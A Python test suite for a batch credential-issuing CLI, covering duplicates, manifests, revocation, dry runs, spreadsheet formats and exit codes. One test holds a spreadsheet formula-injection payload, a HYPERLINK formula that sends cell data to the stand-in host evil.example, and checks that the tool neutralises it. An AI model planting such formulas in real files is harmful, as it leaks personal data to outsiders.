"""A registrar's batch workflow (issue 14): duplicates, the manifest, finding a credential to revoke,
dry runs, spreadsheet dialects, one-off credentials in the ledger, private files, exit codes.

Each friction is reproduced through the real CLI (`python -m edcissuer` in a subprocess)
where it is a CLI behaviour, and through the library where it is the library's.
"""
from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import sys
from datetime import date
from pathlib import Path

import pytest
from conftest import ROOT

from edcissuer.batch import find_duplicates, preview_batch, read_rows
from edcissuer.errors import InputError, LedgerError
from edcissuer.ledger import Ledger, resolve_credential
from edcissuer.tabular import parse_delimited, sniff_delimiter

PROGRAMME = ROOT / "samples" / "batch" / "programme.yaml"
COHORT = ROOT / "samples" / "batch" / "cohort.csv"
RECORD = ROOT / "samples" / "records" / "model1-single.yaml"
KEY = ROOT / "keys" / "demo-issuer-ed25519.DEMO-ONLY.pem"
BASE = "https://credentials.univ-lusitania.example/status"
NOW = "2026-11-24T12:00:00Z"
HEADER = ["student_id", "given_name", "family_name", "email", "date_of_birth", "grade"]
ROWS = [
    ["S-001", "Ana", "Ferreira", "ana@example.org", "1998-04-12", "17/20"],
    ["S-002", "Bruno", "Carvalho", "bruno@example.org", "1995-11-03", "14/20"],
    ["S-003", "Catarina", "Mendes", "catarina@example.org", "1999-01-27", "16/20"],
]


def edc(*args: object) -> subprocess.CompletedProcess[str]:
    """The installed entry point as a registrar runs it (a fresh process, no traceback allowed)."""
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
    done = subprocess.run([sys.executable, "-m", "edcissuer", *map(str, args)], cwd=ROOT, env=env,
                          capture_output=True, text=True, timeout=300)
    assert "Traceback" not in done.stderr, done.stderr
    return done


def write_csv(path: Path, rows: list[list[str]], *, header: list[str] = HEADER, delimiter: str = ",",
              encoding: str = "utf-8") -> Path:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    path.write_bytes(buffer.getvalue().encode(encoding))
    return path


def batch(rows: Path, out: Path, *extra: object) -> subprocess.CompletedProcess[str]:
    return edc("batch", PROGRAMME, rows, "--format", "ob3", "--key", KEY, "--out", out, "--status-url", BASE,
               "--now", NOW, "--workers", "1", "--no-progress", *extra)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def manifest(out: Path) -> list[dict[str, str]]:
    with (out / "manifest.csv").open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


# --- duplicates within one file ---------------------------------------------------------------------

def test_the_same_student_id_with_different_grades_refuses_both_rows_naming_each_other(tmp_path):
    rows = write_csv(tmp_path / "cohort.csv", [ROWS[0], ROWS[1], [*ROWS[0][:5], "11/20"]])
    done = batch(rows, tmp_path / "out", "--json")
    assert done.returncode == 6, done.stderr          # partly issued: row 2 is, rows 1 and 3 are not
    summary = json.loads(done.stdout)
    assert (summary["issued"], summary["refusedRows"], summary["outcome"]) == (1, 2, "partial")
    by_row = {e["row"]: e for e in summary["errors"] if e["field"] == "student_id"}
    assert set(by_row) == {1, 3}
    assert all("rows 1 and 3 have the same student_id" in e["reason"] and e["column"] == "student_id"
               for e in by_row.values())
    assert "S-001" not in json.dumps(summary["errors"])        # the key is named, its value is not
    assert [(m["row"], m["status"]) for m in manifest(tmp_path / "out")] == [("1", "refused"), ("2", "issued"),
                                                                            ("3", "refused")]


def test_an_exact_repeat_says_which_row_it_repeats(tmp_path):
    rows = write_csv(tmp_path / "cohort.csv", [ROWS[0], ROWS[1], ROWS[0]])
    done = batch(rows, tmp_path / "out", "--json")
    summary = json.loads(done.stdout)
    assert done.returncode == 6 and summary["skipped"] == 0     # never "skipped: already issued" on a first run
    assert {(e["row"], e["reason"]) for e in summary["errors"]} == {
        (1, "row 3 repeats row 1: remove one of them"), (3, "row 3 repeats row 1: remove one of them")}


def test_the_same_email_in_another_case_or_the_same_learner_id_is_a_duplicate(tmp_path):
    programme_rows = [
        {"student_id": "S-1", "given_name": "A", "family_name": "B", "email": "Ana@Example.org"},
        {"student_id": "S-2", "given_name": "C", "family_name": "D", "email": "ana@example.org"},
        {"student_id": "S-3", "given_name": "E", "family_name": "F", "learner_id": "did:example:1"},
        {"student_id": "S-4", "given_name": "G", "family_name": "H", "learner_id": "did:example:1"},
        {"student_id": "S-5", "given_name": "I", "family_name": "J"},
    ]
    rows = list(read_rows(write_csv(tmp_path / "c.csv", [[r.get(k, "") for k in
                                                         ("student_id", "given_name", "family_name", "email",
                                                          "learner_id")] for r in programme_rows],
                                    header=["student_id", "given_name", "family_name", "email", "learner_id"])))
    found = find_duplicates({}, rows)
    assert sorted(found) == [1, 2, 3, 4]
    assert {e.column for n in (1, 2) for e in found[n]} == {"email"}
    assert {e.column for n in (3, 4) for e in found[n]} == {"learner_id"}


# --- the manifest and private files ---------------------------------------------------------------------

def test_the_manifest_links_every_row_to_its_credential_without_names_or_emails(tmp_path):
    out = tmp_path / "out"
    done = batch(COHORT, out, "--format", "both", "--json")
    assert done.returncode == 6
    lines = manifest(out)
    assert list(lines[0]) == ["row", "student_id", "credential_id", "format", "file", "status", "reason"]
    issued = [m for m in lines if m["status"] == "issued"]
    assert len(issued) == 36 and {m["format"] for m in issued} == {"elm", "ob3"}
    for m in issued:
        cred = json.loads((out / m["file"]).read_text(encoding="utf-8"))
        assert cred["id"] == m["credential_id"]
    ana = [m for m in issued if m["student_id"] == "UC-2026-00417"]
    assert {m["row"] for m in ana} == {"1"} and len(ana) == 2
    refused = [m for m in lines if m["status"] == "refused"]
    assert [m["row"] for m in refused] == ["8", "14"] and all(m["reason"] for m in refused)
    text = (out / "manifest.csv").read_text(encoding="utf-8")
    assert "Ferreira" not in text and "@example.org" not in text
    assert json.loads(done.stdout)["manifest"][0]["credentialId"] == lines[0]["credential_id"]
    again = batch(COHORT, out, "--format", "both", "--json")       # a re-run lists the same ids as skipped
    assert again.returncode == 6
    assert {(m["credential_id"], m["status"]) for m in manifest(out) if m["credential_id"]} == {
        (m["credential_id"], "skipped") for m in issued}


def test_everything_holding_personal_data_is_private_to_its_owner(tmp_path):
    out = tmp_path / "out"
    batch(COHORT, out)
    assert mode(out) == 0o700
    for path in [*out.glob("*.jsonld"), out / "manifest.csv", out / "errors.jsonl", out / "ledger.sqlite"]:
        assert mode(path) == 0o600, path
    assert {mode(p) for p in (out / "status").glob("*.json")} == {0o644}     # published lists: public by design
    single = tmp_path / "one" / "credential.jsonld"
    assert edc("issue", RECORD, "--format", "ob3", "--key", KEY, "-o", single).returncode == 0
    assert (mode(single), mode(single.parent)) == (0o600, 0o700)


# --- finding the credential to revoke ---------------------------------------------------------------------

def test_revoke_by_bare_uuid_by_file_and_by_student_id(tmp_path):
    out = tmp_path / "out"
    batch(COHORT, out, "--format", "both")
    common = ["--ledger", out / "ledger.sqlite", "--key", KEY, "--status-dir", out / "status", "--now",
              "2026-11-25T08:00:00Z"]
    lines = [m for m in manifest(out) if m["status"] == "issued"]
    first, second = lines[2], lines[4]
    done = edc("revoke", first["credential_id"].removeprefix("urn:uuid:").upper(), "--reason", "issued in error",
               *common)
    assert done.returncode == 0, done.stderr
    assert done.stdout.count(f"{first['credential_id']} (") == 2 and "revoked" in done.stdout   # both formats
    done = edc("suspend", out / second["file"], "--reason", "under review", *common, "--json")
    assert done.returncode == 0, done.stderr
    assert {e["credentialId"] for e in json.loads(done.stdout)["changed"]} == {second["credential_id"]}
    # Ana's row has a learner DID: her learner reference is keyed on it, her student id still finds her
    done = edc("revoke", "--student", "UC-2026-00417", "--reason", "assessment annulled", *common)
    assert done.returncode == 0, done.stderr
    ana = next(m for m in lines if m["student_id"] == "UC-2026-00417")
    shown = edc("status", "show", "--student", "UC-2026-00417", "--ledger", out / "ledger.sqlite", "--key", KEY)
    assert shown.returncode == 0, shown.stderr
    entries = json.loads(shown.stdout)["entries"]
    assert {e["credentialId"] for e in entries} == {ana["credential_id"]} and {e["state"] for e in entries} == {
        "revoked"}
    shown = edc("status", "show", out / second["file"], "--ledger", out / "ledger.sqlite")
    assert {e["state"] for e in json.loads(shown.stdout)["entries"]} == {"suspended"}


def test_a_reference_the_ledger_does_not_know_is_refused_naming_it(tmp_path):
    out = tmp_path / "out"
    batch(COHORT, out)
    done = edc("status", "show", "00000000-0000-4000-8000-000000000000", "--ledger", out / "ledger.sqlite")
    assert done.returncode == 1 and "credential_id: no credential urn:uuid:00000000-0000-4000-8000" in done.stderr
    done = edc("status", "show", "--student", "UC-2026-00417", "--ledger", out / "ledger.sqlite")
    assert done.returncode == 2 and "--student needs --key" in done.stderr  # a usage error
    stranger = tmp_path / "stranger.json"
    stranger.write_text("{}", encoding="utf-8")
    done = edc("status", "show", stranger, "--ledger", out / "ledger.sqlite")
    assert done.returncode == 1 and "not a signed credential this ledger issued" in done.stderr


def test_a_student_with_two_credentials_is_not_revoked_by_guess(tmp_path, demo_keys):
    from edcissuer.batch import derive_pseudonym_key

    out = tmp_path / "out"
    rows = write_csv(tmp_path / "cohort.csv", [ROWS[0]])
    batch(rows, out)
    other = PROGRAMME.read_text(encoding="utf-8").replace("Data Literacy for Public Policy", "Open Data Basics")
    (tmp_path / "programme2.yaml").write_text(other, encoding="utf-8")
    edc("batch", tmp_path / "programme2.yaml", rows, "--format", "ob3", "--key", KEY, "--out", out,
        "--status-url", BASE, "--now", NOW, "--workers", "1", "--no-progress")
    done = edc("revoke", "--student", "S-001", "--reason", "x", "--ledger", out / "ledger.sqlite", "--key", KEY,
               "--status-dir", out / "status")
    assert done.returncode == 1 and "student id names 2 credentials" in done.stderr
    with Ledger.open(out / "ledger.sqlite") as ledger:
        found = resolve_credential(ledger, student="S-001", pseudonym_key=derive_pseudonym_key(demo_keys.issuer))
        assert len(found.credential_ids) == 2 and {e.state for e in found.entries} == {"issued"}


# --- dry run --------------------------------------------------------------------------------------------------

def test_dry_run_previews_every_error_and_signs_and_writes_nothing(tmp_path):
    out = tmp_path / "out"
    done = batch(COHORT, out, "--format", "both", "--dry-run")
    assert done.returncode == 1, done.stderr            # a preview that finds errors (a real run would exit 6)
    assert not out.exists()                             # no ledger, no credential, no manifest, not even the folder
    text = done.stdout
    assert "rows read:   20" in text and "18 row(s) -> 36 credential(s)" in text and "refused:     2 row(s)" in text
    assert "row 8 (line 9)" in text and "row 14 (line 15)" in text
    assert text.count("student UC-2026-00") == 3 and "Data Literacy for Public Policy" in text
    assert "@example.org" not in text.split("refused:")[0]
    done = batch(COHORT, out, "--dry-run", "--json")
    preview = json.loads(done.stdout)
    assert preview["dryRun"] and len(preview["errors"]) == 2 and len(preview["samples"]) == 3
    assert not out.exists()


def test_dry_run_leaves_an_existing_ledger_unchanged(tmp_path):
    out = tmp_path / "out"
    batch(COHORT, out)
    before = {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()}
    done = batch(COHORT, out, "--dry-run")
    assert done.returncode == 1
    assert {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()} == before


def test_dry_run_of_a_clean_file_exits_0_and_of_an_all_bad_file_exits_1(tmp_path, demo_keys):
    good = write_csv(tmp_path / "good.csv", ROWS)
    assert batch(good, tmp_path / "o1", "--dry-run").returncode == 0
    bad = write_csv(tmp_path / "bad.csv", [["S-9", "Ana", "", "x", "", ""]])
    assert batch(bad, tmp_path / "o2", "--dry-run").returncode == 1
    mixed = write_csv(tmp_path / "mixed.csv", [ROWS[0], ["S-9", "Ana", "", "x", "", ""]])
    done = batch(mixed, tmp_path / "o3", "--dry-run", "--json")
    assert done.returncode == 1 and json.loads(done.stdout)["outcome"] == "partial"   # never 6: nothing issued
    assert "with --dry-run" in edc("batch", "--help").stdout
    preview = preview_batch(None, [{"learner": {"given_name": "A"}}], formats=["ob3"], signer=demo_keys.issuer)
    assert preview.refused_rows == 1 and preview.errors


# --- spreadsheet dialects ---------------------------------------------------------------------------------------

def test_a_semicolon_csv_with_a_bom_from_a_german_spreadsheet_is_read(tmp_path):
    rows = [[*r[:5], r[5].replace("/20", ",0/20")] for r in ROWS]          # decimal commas inside cells
    path = write_csv(tmp_path / "kohorte.csv", rows, delimiter=";", encoding="utf-8-sig")
    assert path.read_bytes().startswith(b"\xef\xbb\xbfstudent_id;")
    done = batch(path, tmp_path / "out", "--json")
    assert done.returncode == 0, done.stdout + done.stderr
    assert json.loads(done.stdout)["issued"] == 3
    cred = json.loads(next((tmp_path / "out").glob("*.ob3.jsonld")).read_text(encoding="utf-8"))
    assert cred["credentialSubject"]["result"][0]["value"].endswith(",0/20")


def test_tab_separated_and_an_explicit_delimiter(tmp_path):
    tsv = write_csv(tmp_path / "cohort.tsv", ROWS, delimiter="\t")
    assert batch(tsv, tmp_path / "o1", "--dry-run").returncode == 0
    piped = write_csv(tmp_path / "cohort.txt", ROWS, delimiter="|")
    assert batch(piped, tmp_path / "o2", "--dry-run", "--delimiter", "|").returncode == 0
    semi = write_csv(tmp_path / "semi.csv", ROWS, delimiter=";")
    done = batch(semi, tmp_path / "o3", "--dry-run", "--delimiter", ",")     # the wrong one, said explicitly
    assert done.returncode == 1 and "give --delimiter" in done.stderr and "(header)" in done.stderr
    assert sniff_delimiter("a;b;c\n1;2,5;3\n") == ";" and sniff_delimiter("a\tb\n1\t2\n") == "\t"
    assert parse_delimited("\ufeffa,b\n\n1,2\n").header == ["a", "b"]
    exported = parse_delimited("a;b;;\n1;2;;\n")                   # trailing empty columns of an export
    assert (exported.header, exported.rows) == (["a", "b"], [["1", "2", "", ""]])


def test_an_xlsx_workbook_is_read_with_dates_and_numbers_as_a_csv_export_would_hold_them(tmp_path):
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(HEADER)
    for r in ROWS:
        year, month, day = map(int, r[4].split("-"))
        sheet.append([*r[:4], date(year, month, day), 17])               # a real date cell and a number
    path = tmp_path / "cohort.xlsx"
    book.save(path)
    rows = list(read_rows(path))
    assert rows[0].data["date_of_birth"] == "1998-04-12" and rows[0].data["grade"] == "17"
    assert rows[0].line == 2
    done = batch(path, tmp_path / "out", "--json")
    assert done.returncode == 0, done.stdout + done.stderr
    assert json.loads(done.stdout)["issued"] == 3


def test_a_broken_workbook_is_an_input_error_naming_the_file(tmp_path):
    path = tmp_path / "cohort.xlsx"
    path.write_bytes(b"PK\x03\x04 not really a zip")
    with pytest.raises(InputError, match="not a readable .xlsx workbook"):
        list(read_rows(path))


# --- a one-off credential in the ledger ---------------------------------------------------------------------------

def test_a_single_issue_with_the_ledger_can_be_revoked_and_verify_reports_revoked(tmp_path):
    out = tmp_path / "out"
    target, ledger = out / "one.ob3.jsonld", out / "ledger.sqlite"
    done = edc("issue", RECORD, "--format", "ob3", "--key", KEY, "-o", target, "--ledger", ledger,
               "--status-url", BASE, "--json")
    assert done.returncode == 0, done.stderr
    recorded = json.loads(done.stdout)
    cred = json.loads(target.read_text(encoding="utf-8"))
    assert cred["id"] == recorded["credentialId"] and recorded["new"]
    assert cred["credentialStatus"][0]["statusListIndex"] == str(recorded["statusListIndex"])
    assert edc("verify", target, "--status-dir", out / "status").returncode in (0, 3)   # authentic, not revoked
    again = edc("issue", RECORD, "--format", "ob3", "--key", KEY, "-o", out / "again.jsonld", "--ledger", ledger,
                "--status-url", BASE, "--json")
    assert json.loads(again.stdout)["credentialId"] == cred["id"] and not json.loads(again.stdout)["new"]
    assert (out / "again.jsonld").read_bytes() == target.read_bytes()    # the same credential, not a second one
    done = edc("revoke", target, "--reason", "issued in error", "--ledger", ledger, "--key", KEY,
               "--status-dir", out / "status")
    assert done.returncode == 0, done.stderr
    verified = edc("verify", target, "--status-dir", out / "status")
    assert verified.returncode == 1 and "REVOKED" in verified.stdout
    refused = edc("issue", RECORD, "--format", "ob3", "--key", KEY, "-o", out / "third.jsonld", "--ledger", ledger,
                  "--status-url", BASE)
    assert refused.returncode == 1 and "revoked; it is not issued again" in refused.stderr


def test_issue_with_a_ledger_needs_an_output_file_and_a_status_decision(tmp_path):
    ledger = tmp_path / "ledger.sqlite"
    done = edc("issue", RECORD, "--format", "ob3", "--key", KEY, "--ledger", ledger, "--status-url", BASE)
    assert done.returncode == 2 and "-o FILE" in done.stderr
    done = edc("issue", RECORD, "--format", "ob3", "--key", KEY, "-o", tmp_path / "c.jsonld", "--ledger", ledger)
    assert done.returncode == 2 and "--status-url" in done.stderr
    done = edc("issue", RECORD, "--format", "ob3", "--key", KEY, "--status-url", BASE)
    assert done.returncode == 2 and "give --ledger" in done.stderr


# --- exit codes -------------------------------------------------------------------------------------------------

def test_exit_codes_complete_partial_refused_are_distinct_and_documented(tmp_path):
    assert batch(write_csv(tmp_path / "ok.csv", ROWS), tmp_path / "o1").returncode == 0
    assert batch(write_csv(tmp_path / "some.csv", [*ROWS, ["S-4", "X", "", "", "", ""]]),
                 tmp_path / "o2").returncode == 6
    assert batch(write_csv(tmp_path / "none.csv", [["S-4", "X", "", "", "", ""]]), tmp_path / "o3").returncode == 1
    helptext = edc("batch", "--help").stdout
    assert "6  partly issued" in helptext and "1  nothing issued" in helptext
    assert "`6`" in (ROOT / "README.md").read_text(encoding="utf-8")
    assert "| 6 |" in (ROOT / "docs" / "ledger.md").read_text(encoding="utf-8")


def test_student_lookup_also_finds_entries_written_before_the_student_reference_column(tmp_path, records):
    from datetime import datetime, timezone

    from edcissuer.ledger import Reservation, learner_reference, student_reference

    key = bytes(range(32))
    learner = records["model1-single"].learner.model_copy(update={"id": None, "student_id": "S-77"})
    assert learner_reference(learner, key) == student_reference("S-77", key)   # the same keyed value
    old = Reservation("urn:uuid:11111111-1111-4111-8111-111111111111", "ob3", "eddsa-rdfc-2022", "a" * 64,
                      learner_reference(learner, key))                         # no student_ref, as in schema 1
    with Ledger.open(tmp_path / "ledger.sqlite") as ledger:
        ledger.reserve([old], at=datetime(2026, 1, 1, tzinfo=timezone.utc), status=None)
        found = resolve_credential(ledger, student=" S-77 ", pseudonym_key=key)
        assert found.one() == old.credential_id
        with pytest.raises(LedgerError, match="student id"):
            resolve_credential(ledger, student="S-78", pseudonym_key=key)


# --- what the manifest may hold (review 14) ---------------------------------------------------------------

def test_manifest_cells_that_a_spreadsheet_would_run_as_formulas_are_made_inert(tmp_path):
    hostile = ['=HYPERLINK("http://evil.example/?x="&B2)', "@SUM(1+1)", "+1", "-2+3"]
    rows = write_csv(tmp_path / "c.csv", [[sid, "Ana", f"F{i}", f"a{i}@example.org", "", ""]
                                         for i, sid in enumerate(hostile)])
    out = tmp_path / "out"
    batch(rows, out)
    written = [m["student_id"] for m in manifest(out)]
    assert written == ["'" + sid for sid in hostile]
    with (out / "manifest.csv").open(encoding="utf-8", newline="") as handle:
        for line in csv.reader(handle):
            assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in line), line


def test_csv_safe_cell_leaves_ordinary_text_alone():
    from edcissuer.tabular import csv_safe_cell
    assert csv_safe_cell("S-001") == "S-001" and csv_safe_cell("") == "" and csv_safe_cell("a=b") == "a=b"
    assert csv_safe_cell("=1") == "'=1" and csv_safe_cell("\rx") == "'\rx"


def test_manifest_reasons_name_the_field_and_column_but_never_the_value(tmp_path):
    rows = write_csv(tmp_path / "c.csv", [["S1", "Ana", "Ferreira", "ana.ferreira@uni", "1998-02-30", ""]])
    out = tmp_path / "out"
    batch(rows, out)
    [line] = manifest(out)
    assert line["status"] == "refused"
    assert "learner.email [column email]: email is not an e-mail address" in line["reason"]
    assert "[column date_of_birth]" in line["reason"]
    text = (out / "manifest.csv").read_text(encoding="utf-8")
    assert "ana.ferreira@uni" not in text and "1998-02-30" not in text and "Ferreira" not in text
    full = (out / "errors.jsonl").read_text(encoding="utf-8")      # the registrar's private copy keeps them
    assert "ana.ferreira@uni" in full and "1998-02-30" in full and mode(out / "errors.jsonl") == 0o600


def _rezipped(source: Path, target: Path, change) -> Path:
    """A copy of a real workbook with one part changed (`change(name, bytes) -> bytes | None`, None drops it)."""
    import zipfile
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        for item in old.infolist():
            data = change(item.filename, old.read(item.filename))
            if data is not None:
                new.writestr(item, data)
    return target


@pytest.fixture
def workbook(tmp_path) -> Path:
    openpyxl = pytest.importorskip("openpyxl", reason="reading .xlsx needs openpyxl")
    book = openpyxl.Workbook()
    book.active.append(HEADER)
    for row in ROWS:
        book.active.append(row)
    path = tmp_path / "good.xlsx"
    book.save(path)
    return path


def test_a_workbook_without_worksheets_is_an_input_error_naming_the_file(tmp_path, workbook):
    import re as regex

    def no_sheets(name: str, data: bytes) -> bytes | None:
        if name == "xl/workbook.xml":
            return regex.sub(rb"<sheets>.*</sheets>", b"<sheets/>", data, flags=regex.S)
        return None if name.startswith("xl/worksheets/") else data
    path = _rezipped(workbook, tmp_path / "nosheet.xlsx", no_sheets)
    with pytest.raises(InputError, match="not a readable .xlsx workbook") as caught:
        list(read_rows(path))
    assert caught.value.field == str(path)


def test_a_truncated_sheet_is_an_input_error_naming_the_file(tmp_path, workbook):
    def truncated(name: str, data: bytes) -> bytes:
        return data[: len(data) // 2] if name.startswith("xl/worksheets/sheet") else data
    path = _rezipped(workbook, tmp_path / "truncated.xlsx", truncated)
    with pytest.raises(InputError, match="not a readable .xlsx workbook") as caught:
        list(read_rows(path))
    assert caught.value.field == str(path)
    done = batch(path, tmp_path / "out")
    assert done.returncode == 1 and "truncated.xlsx" in done.stderr


def test_a_duplicate_added_on_a_re_run_is_refused_and_the_issued_row_keeps_its_credential(tmp_path):
    header = ["student_id", "given_name", "family_name", "email"]
    first = [["S1", "Ana", "Ferreira", "ana@example.org"], ["S2", "Bo", "Bar", "bo@example.org"]]
    out = tmp_path / "out"
    assert batch(write_csv(tmp_path / "d.csv", first, header=header), out).returncode == 0
    issued = {m["row"]: m["credential_id"] for m in manifest(out)}
    again = batch(write_csv(tmp_path / "d2.csv", [*first, ["S1", "Ana", "Ferreira-Typo", "ana2@example.org"]],
                            header=header), out, "--json")
    assert again.returncode == 6, again.stderr
    lines = {m["row"]: m for m in manifest(out)}
    assert [(lines[r]["status"], lines[r]["credential_id"]) for r in ("1", "2")] == [
        ("skipped", issued["1"]), ("skipped", issued["2"])]
    assert lines["3"]["status"] == "refused" and lines["3"]["credential_id"] == ""
    assert "same student_id as row 1, which is already issued" in lines["3"]["reason"]
    summary = json.loads(again.stdout)
    assert (summary["issued"], summary["skipped"], summary["refusedRows"]) == (0, 2, 1)
    assert [e["row"] for e in summary["errors"]] == [3]
    with Ledger.open(out / "ledger.sqlite") as ledger:
        assert len(list(ledger.entries())) == 2


def test_an_exact_repeat_of_an_issued_row_added_on_a_re_run_refuses_only_the_repeat(tmp_path):
    out = tmp_path / "out"
    batch(write_csv(tmp_path / "a.csv", ROWS[:2]), out)
    again = batch(write_csv(tmp_path / "b.csv", [*ROWS[:2], ROWS[0]]), out, "--json")
    summary = json.loads(again.stdout)
    assert [(e["row"], e["reason"]) for e in summary["errors"]] == [
        (3, "row 3 repeats row 1, which is already issued: remove row 3")]
    assert [m["status"] for m in manifest(out)] == ["skipped", "skipped", "refused"]


def test_a_repeat_is_found_whether_a_cell_restates_the_programme_or_the_keys_come_in_another_order():
    from edcissuer.batch import SourceRow

    programme = {"title": {"en": "Data literacy"}, "grade": {"scheme": "0-20"}, "language": "en"}
    rows = [SourceRow(1, {"student_id": "S-1", "given_name": "A", "family_name": "B"}),
            SourceRow(2, {"family_name": "B", "given_name": "A", "student_id": "S-1"}),
            SourceRow(3, {"student_id": "S-2", "given_name": "C", "family_name": "D", "language": "en"}),
            SourceRow(4, {"student_id": "S-2", "given_name": "C", "family_name": "D"}),
            SourceRow(5, {"student_id": "S-3", "given_name": "E", "family_name": "F", "language": "pt"})]
    found = find_duplicates(programme, rows)
    assert {n: [e.reason for e in errors if "repeats" in e.reason] for n, errors in found.items()} == {
        1: ["row 2 repeats row 1: remove one of them"], 2: ["row 2 repeats row 1: remove one of them"],
        3: ["row 4 repeats row 3: remove one of them"], 4: ["row 4 repeats row 3: remove one of them"]}
    assert programme == {"title": {"en": "Data literacy"}, "grade": {"scheme": "0-20"}, "language": "en"}


def test_a_dotted_column_changes_its_row_only_never_the_programme():
    from edcissuer.batch import record_data

    programme = {"title": {"en": "Data literacy"}, "learner": {"given_name": "x"}}
    first = record_data(programme, {"given_name": "A", "family_name": "B", "title.pt": "Literacia de dados"})
    second = record_data(programme, {"given_name": "C", "family_name": "D"})
    assert first["title"] == {"en": "Data literacy", "pt": "Literacia de dados"}
    assert second["title"] == programme["title"] == {"en": "Data literacy"}
